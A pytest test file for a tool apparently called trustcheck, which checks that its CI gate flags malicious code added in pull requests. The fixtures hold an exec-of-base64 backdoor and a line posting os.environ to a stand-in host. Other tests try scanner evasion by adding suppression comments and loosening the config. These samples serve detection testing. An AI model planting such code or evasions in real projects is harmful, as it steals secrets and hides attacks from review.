"""`trustcheck ci` end to end on real temporary repositories: a pull request branch `pr` off `main`."""

from __future__ import annotations

import json

import pytest

from trustcheck.cli import main

BASE_CONFIG = """\
[project]
name = "demo"

[tool.trustcheck]
fail-on = "medium"
"""
CLEAN = """\
import os


def greet(name):
    return "hello " + name
"""
BACKDOOR = CLEAN + """

def sync(blob):
    import base64
    exec(base64.b64decode(blob))
"""
BACKDOOR_LINE = BACKDOOR.splitlines().index("    exec(base64.b64decode(blob))") + 1


def gate(capsys, *args: str) -> tuple[int, list[dict]]:
    code = main(["ci", "--base", "main", "--format", "json", *args])
    out, err = capsys.readouterr()
    print(err)  # shown by pytest when a test fails
    return code, json.loads(out)["findings"] if out.strip() else []


def at(findings: list[dict], path: str, line: int) -> list[str]:
    return [f["rule_id"] for f in findings if f["path"] == path and f["line"] == line]


@pytest.fixture
def pr(repo):
    """main has clean code and a config; the pr branch is checked out (no commits yet)."""
    repo.commit_files({"pyproject.toml": BASE_CONFIG, "app.py": CLEAN})
    repo.git("checkout", "-qb", "pr")
    return repo


def test_backdoor_in_a_pull_request_is_caught(pr, capsys):
    pr.commit_files({"app.py": BACKDOOR})
    code, findings = gate(capsys)
    assert code == 1
    assert at(findings, "app.py", BACKDOOR_LINE)
    assert all(f["line"] > len(CLEAN.splitlines()) for f in findings)  # only the lines the PR added


def test_env_exfiltration_in_a_pull_request_is_caught(pr, capsys):
    exfil = CLEAN + '\n\ndef report():\n    import requests\n    requests.post("https://c.example/t", data=dict(os.environ))\n'
    pr.commit_files({"app.py": exfil})
    code, findings = gate(capsys)
    assert code == 1
    assert any(f["severity"] in ("high", "critical") for f in findings if f["line"] == len(exfil.splitlines()))


def test_clean_pull_request_passes(pr, capsys):
    pr.commit_files({"app.py": CLEAN + "\n\ndef bye():\n    return 'bye'\n"})
    assert gate(capsys) == (0, [])


def test_pre_existing_findings_on_untouched_lines_are_not_reported(repo, capsys):
    repo.commit_files({"pyproject.toml": BASE_CONFIG, "app.py": BACKDOOR})
    repo.git("checkout", "-qb", "pr")
    repo.commit_files({"app.py": "# a comment\n" + BACKDOOR, "new.py": "X = 1\n"})
    assert gate(capsys) == (0, [])


def test_config_edit_in_the_pr_does_not_switch_the_gate_off(pr, capsys):
    weakened = BASE_CONFIG.replace('fail-on = "medium"', 'fail-on = "critical"\nignore = ["py-*"]')
    pr.commit_files({"app.py": BACKDOOR, "pyproject.toml": weakened})
    code, findings = gate(capsys)
    assert code == 1
    assert at(findings, "app.py", BACKDOOR_LINE)
    tamper = [f for f in findings if f["rule_id"] == "ci-config-weakened"]
    assert {f["evidence"]["key"] for f in tamper} == {"fail-on", "ignore"}
    assert {f["line"] for f in tamper} == {5, 6}  # the edited keys in pyproject.toml


def test_suppression_added_by_the_pr_is_reported_not_obeyed(pr, capsys):
    suppressed = BACKDOOR.replace("exec(base64.b64decode(blob))", "exec(base64.b64decode(blob))  # trustcheck: ignore[py-*]")
    pr.commit_files({"app.py": suppressed})
    code, findings = gate(capsys)
    assert code == 1
    assert "ci-new-suppression" in at(findings, "app.py", BACKDOOR_LINE)
    assert [r for r in at(findings, "app.py", BACKDOOR_LINE) if r.startswith("py-")]
    code, findings = gate(capsys, "--allow-new-suppressions")
    assert code == 0 and findings == []


def test_existing_suppression_still_obeyed_when_code_moves(repo, capsys):
    suppressed = BACKDOOR.replace("exec(base64.b64decode(blob))", "exec(base64.b64decode(blob))  # trustcheck: ignore[py-*]")
    repo.commit_files({"pyproject.toml": BASE_CONFIG, "app.py": suppressed})
    repo.git("checkout", "-qb", "pr")
    moved = suppressed.replace("def sync(blob):\n    import base64", "def sync(blob):\n    import base64\n    blob = blob.strip()")
    moved = moved.replace("    exec(", "        exec(").replace("def sync(blob):\n", "def sync(blob):\n    if blob:\n")
    repo.commit_files({"app.py": moved})
    code, findings = gate(capsys)
    assert (code, findings) == (0, [])


def test_staged_mode_judges_only_staged_lines(repo, capsys):
    repo.commit_files({"pyproject.toml": BASE_CONFIG, "app.py": CLEAN})
    repo.write("app.py", BACKDOOR)
    assert main(["ci", "--staged", "--format", "json"]) == 0  # nothing staged yet
    capsys.readouterr()
    repo.git("add", "app.py")
    code = main(["ci", "--staged", "--format", "json"])
    findings = json.loads(capsys.readouterr().out)["findings"]
    assert code == 1 and at(findings, "app.py", BACKDOOR_LINE)


def test_github_actions_annotations_and_summary(pr, capsys, monkeypatch, tmp_path):
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_BASE_REF", "main")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    pr.git("update-ref", "refs/remotes/origin/main", "main")
    pr.commit_files({"app.py": BACKDOOR})
    sarif = tmp_path / "out.sarif"
    assert main(["ci", "--format", "sarif", "--output", str(sarif)]) == 1
    out = capsys.readouterr().out
    assert f"::error file=app.py,line={BACKDOOR_LINE}" in out or f"::warning file=app.py,line={BACKDOOR_LINE}" in out
    assert json.loads(sarif.read_text())["version"] == "2.1.0"
    assert "trustcheck:" in summary.read_text() and "app.py:" in summary.read_text()


@pytest.mark.parametrize("fmt", ["markdown", "github", "codequality", "text"])
def test_every_format_renders(pr, capsys, fmt):
    pr.commit_files({"app.py": BACKDOOR})
    assert main(["ci", "--base", "main", "--format", fmt]) == 1
    assert "app.py" in capsys.readouterr().out


def test_pasted_copy_of_an_existing_suppressed_line_is_new(repo, capsys):
    suppressed = BACKDOOR.replace("exec(base64.b64decode(blob))", "exec(base64.b64decode(blob))  # trustcheck: ignore[py-*]")
    repo.commit_files({"pyproject.toml": BASE_CONFIG, "app.py": suppressed})
    repo.git("checkout", "-qb", "pr")
    pasted = suppressed + "\n\ndef later(blob):\n    import base64\n    exec(base64.b64decode(blob))  # trustcheck: ignore[py-*]\n"
    repo.commit_files({"app.py": pasted})
    code, findings = gate(capsys)
    last = len(pasted.splitlines())
    assert code == 1 and "ci-new-suppression" in at(findings, "app.py", last)
    assert not at(findings, "app.py", BACKDOOR_LINE)  # the old, reviewed suppression still holds


@pytest.mark.parametrize("old_comment", [
    "    # trustcheck: ignore[py-*]\n    exec(reviewed_code)\n",  # a standalone comment covers the next line
    "    exec(reviewed_code)  # trustcheck: ignore[py-*]\n",  # an inline comment also covers the next line
])
def test_new_code_slipped_under_an_existing_suppression_is_reported(repo, capsys, old_comment):
    before = "def run(reviewed_code, blob):\n    import base64\n" + old_comment + "    return 1\n"
    repo.commit_files({"pyproject.toml": BASE_CONFIG, "app.py": before})
    repo.git("checkout", "-qb", "pr")
    anchor = old_comment.splitlines()[-1 if old_comment.startswith("    exec") else 0] + "\n"
    after = before.replace(anchor, anchor + "    exec(base64.b64decode(blob))\n", 1)
    repo.commit_files({"app.py": after})
    line = after.splitlines().index("    exec(base64.b64decode(blob))") + 1
    code, findings = gate(capsys)
    assert code == 1 and [r for r in at(findings, "app.py", line) if r.startswith("py-")]
